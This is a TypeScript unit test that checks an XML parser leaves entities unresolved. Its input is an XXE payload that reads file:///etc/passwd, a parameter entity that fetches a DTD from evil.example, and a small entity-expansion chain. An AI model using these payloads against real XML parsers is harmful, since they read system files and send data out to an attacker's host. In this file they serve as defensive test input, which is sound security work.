import assert from 'node:assert/strict';
import test from 'node:test';
import { elements } from './xml.ts';

test('no entity is resolved, of whatever sort, and none grows', () => {
  const doctype = `<!DOCTYPE p [<!ENTITY own SYSTEM "file:///etc/passwd"><!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">
<!ENTITY % far SYSTEM "http://evil.example/x.dtd"> %far;]>`;
  const [found] = elements(`<?xml version="1.0"?>${doctype}<p><r Include="&own;">&b;</r></p>`, 'r');
  assert.deepEqual(
    { include: found?.attributes.get('include'), inside: found?.inside },
    { include: '&own;', inside: '&b;' },
  );
});
